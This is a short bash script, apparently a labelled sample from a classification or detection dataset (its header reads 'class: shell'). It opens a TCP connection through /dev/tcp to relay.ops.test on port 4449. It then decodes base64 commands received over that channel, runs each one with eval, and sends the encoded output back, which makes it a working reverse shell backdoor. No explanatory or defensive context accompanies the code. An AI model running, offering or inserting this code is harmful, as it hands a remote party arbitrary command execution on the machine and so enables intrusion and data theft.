# class: shell; possible: low medium
exec 7<>/dev/tcp/relay.ops.test/4449
while read -r l <&7; do
  c=$(echo "$l" | base64 -d)
  [ "$c" = exit ] && break
  eval "$c" 2>&1 | base64 -w0 >&7; echo >&7
done
